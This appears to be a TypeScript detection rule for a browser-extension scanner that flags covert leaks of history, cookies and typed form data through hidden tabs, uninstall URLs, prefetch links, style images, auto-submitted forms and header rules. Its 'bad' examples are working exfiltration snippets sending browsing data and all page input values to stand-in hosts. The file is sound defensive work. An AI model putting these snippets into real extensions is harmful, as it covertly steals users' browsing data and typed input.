import {
  apiPath,
  callsNamed,
  callsOf,
  constant,
  Op,
  pattern,
  propertyOf,
  receiverOf,
  type ScriptFacts,
  valuesOf,
  writesOf,
} from '../../facts/javascript/query.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { tagOf } from './tagOf.ts';
import { hostOf, leadsOut } from './hostOf.ts';
import { requestsOf } from './requestsOf.ts';
import { isSentToTheirs } from '../../verdict/isSentToTheirs.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { itemsOf } from '../../facts/javascript/itemsOf.ts';
import { first } from '../../facts/first.ts';
import { isUnseen, openedPages } from '../../program/openedPages.ts';
import { say } from '../../../texts/say.ts';
import type { Told } from '../../../model/told.ts';

const SOURCES = [
  'chrome.history.search',
  'chrome.history.getVisits',
  'chrome.bookmarks.getTree',
  'chrome.bookmarks.search',
  'chrome.topSites.get',
  'chrome.cookies.get',
  'chrome.cookies.getAll',
  'chrome.cookies.onChanged.addListener',
  'chrome.tabs.onUpdated.addListener',
  'chrome.tabs.onActivated.addListener',
  'chrome.webNavigation.onCompleted.addListener',
  'chrome.webNavigation.onCommitted.addListener',
  'chrome.sessions.getRecentlyClosed',
  'chrome.management.getAll',
  'chrome.downloads.search',
];

export const browsingDataSmuggled = defineRule({
  id: 'browsing-data-smuggled',
  title: 'Exfiltrates data through page, image, style or form addresses',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-359',
  references: ['https://attack.mitre.org/techniques/T1048/'],
  why: 'What the user does or types is put into the address of something the browser loads. Such requests are easy to overlook, which is why they are used.',
  remedy: 'Send only what is needed, with an ordinary request from the extension.',
  check: checkScripts(function* ({ script, hit, facts }) {
    yield* headers(script, hit);
    const taken = new Set(callsOf(script, ...SOURCES).map((call) => call.value));
    const typed = new Set(
      first(callsOf(script, 'document.querySelectorAll', 'document.getElementsByTagName'), 100)
        .filter((call) => /\b(input|textarea|select)\b/i.test(constant(script, call.args[0] ?? 0) ?? ''))
        .map((call) => call.value),
    );
    if (taken.size === 0 && typed.size === 0) return;
    for (const { value, to, way } of ways(script)) {
      const origins = backwardSlice(script, value);
      if ([...taken].some((one) => origins.has(one) && !isSentToTheirs(facts, script, one)))
        yield hit(value, { message: say('in-address-of', way, to.slice(0, 80)) });
    }
    // A form of the script's own that is filled with what is typed in others, and sent.
    const form = writesOf(script, 'action').find(
      (write) => tagOf(script, write.object) === 'form' && leadsOut(pattern(script, write.value)),
    );
    if (form === undefined || callsNamed(script, 'submit').length === 0) return;
    const filled = writesOf(script, 'value').find(
      (write) => tagOf(script, write.object) === 'input' && isMadeOf(script, write.value, [...typed, ...taken]),
    );
    if (filled !== undefined)
      yield hit(filled.value, {
        severity: 'critical',
        message: say('in-form-to', pattern(script, form.value)),
      });
  }),
  examples: {
    bad: [
      backgroundExample(
        'chrome.history.search({ text: "" }, (r) => { const d = encodeURIComponent(JSON.stringify(r.map((x) => x.url))); chrome.tabs.create({ url: "https://r.example/c#" + d, active: false }); });',
      ),
      backgroundExample(
        'chrome.topSites.get((s) => chrome.runtime.setUninstallURL("https://bye.example/?s=" + encodeURIComponent(s.map((x) => x.url).join(","))));',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((id, c, t) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://cdn.example/" + btoa(t.url) + ".css"; document.head.append(l); });',
      ),
      contentExample(
        'addEventListener("beforeunload", () => { const f = document.createElement("form"); f.action = "https://save.example/p"; const a = document.createElement("input"); a.value = JSON.stringify([...document.querySelectorAll("input")].map((e) => e.value)); f.append(a); document.body.append(f); f.submit(); });',
      ),
      backgroundExample(
        'chrome.runtime.onMessage.addListener(async ({ k }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "stats.x.example" }, action: { type: "modifyHeaders", requestHeaders: [{ header: "accept-language", operation: "set", value: k }] } }] }); await fetch("https://stats.x.example/p.gif"); });',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.runtime.onMessage.addListener(async ({ name, text }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "*" }, action: { type: "modifyHeaders", requestHeaders: [{ header: name, operation: "set", value: text }] } }] }); await fetch("https://tool.example/ping"); });',
      ),
      backgroundExample(
        'chrome.runtime.setUninstallURL("https://tool.example/bye?v=" + chrome.runtime.getManifest().version); chrome.history.search({ text: "" }, show);',
      ),
      backgroundExample(
        'const read = (url, name) => chrome.cookies.get({ url, name }, ({ value }) => { end.onclick = () => chrome.tabs.create({ url: "https://forum.example/leave?sid=" + value, active: false }); }); read("https://forum.example", "sid");',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((id, c, t) => { if (t.url.startsWith("https://old.example/")) chrome.tabs.create({ url: "https://new.example/" }); });',
      ),
      contentExample(
        'const f = document.createElement("form"); f.action = "https://tool.example/search"; const q = document.createElement("input"); q.value = getSelection().toString(); f.append(q); f.submit(); document.querySelectorAll("input").forEach(style);',
      ),
    ],
  },
});

const HEARD = ['chrome.runtime.onMessage.addListener', 'chrome.runtime.onConnect.addListener'];

/** Rules of the browser that set a header to what another part of the extension found or what was taken from the browser. */
function* headers(script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
  const calls = callsOf(
    script,
    'chrome.declarativeNetRequest.updateSessionRules',
    'chrome.declarativeNetRequest.updateDynamicRules',
  );
  if (calls.length === 0 || !script.strings.includes('requestHeaders')) return;
  const from = new Set(callsOf(script, ...SOURCES, ...HEARD).map((call) => call.value));
  for (const value of valuesOf(script, Op.object).subarray(0, 2000)) {
    for (const item of itemsOf(script, propertyOf(script, value, 'requestHeaders'))) {
      const given = propertyOf(script, item, 'value');
      // Only for a server that the rule names itself: settings for all sites are the person's.
      if (
        given === 0 ||
        constant(script, given) !== undefined ||
        !calls.some((call) => isMadeOf(script, call.args[0] ?? 0, value))
      )
        continue;
      const origins = backwardSlice(script, given);
      if (![...from].some((one) => origins.has(one))) continue;
      const host = requestsOf(script)
        .map((request) => hostOf(request.to))
        .find(
          (one) =>
            one !== undefined &&
            script.strings.some((text) => text.length < 100 && text.includes(one) && !text.includes('/')),
        );
      if (host !== undefined) yield hit(value, { message: say('in-headers-by-rule', host) });
    }
  }
}

/** Addresses outside that the script opens other than by a request. */
function* ways(script: ScriptFacts): Generator<{ value: number; to: string; way: Told }> {
  const known = (value: number, way: Told): { value: number; to: string; way: Told }[] => {
    const to = pattern(script, value);
    // Only what follows a host that the script names; an address as a whole is a page that is opened.
    return value !== 0 && /^(https?:)?\/\/[^/*]+[/?#]?.*\*/i.test(to) ? [{ value, to, way }] : [];
  };
  for (const page of openedPages(script)) if (isUnseen(script, page)) yield* known(page.address, say('way-hidden-tab'));
  for (const call of callsOf(script, 'chrome.runtime.setUninstallURL'))
    yield* known(call.args[0] ?? 0, say('way-removal-page'));
  for (const write of first(writesOf(script, 'href'), 200))
    if (tagOf(script, write.object) === 'link') yield* known(write.value, say('way-style'));
  for (const call of first(callsNamed(script, 'setAttribute'), 200))
    if (
      /^(href|src)$/.test(constant(script, call.args[0] ?? 0) ?? '') &&
      /^(link|img|iframe|script)$/.test(tagOf(script, receiverOf(script, call)) ?? '')
    )
      yield* known(call.args[1] ?? 0, say('way-page-part'));
  for (const write of first(writesOf(script, 'backgroundImage', 'background', 'cssText'), 200)) {
    const to = /url\(["']?((?:https?:)?\/\/[^)*][^)]{0,2000}\*)/i.exec(pattern(script, write.value))?.[1];
    if (to !== undefined) yield { value: write.value, to, way: say('way-style-picture') };
  }
  for (const write of first(writesOf(script, 'src'), 200))
    if (tagOf(script, write.object) === 'iframe' && apiPath(script, write.object) !== 'Image()')
      yield* known(write.value, say('way-frame'));
}
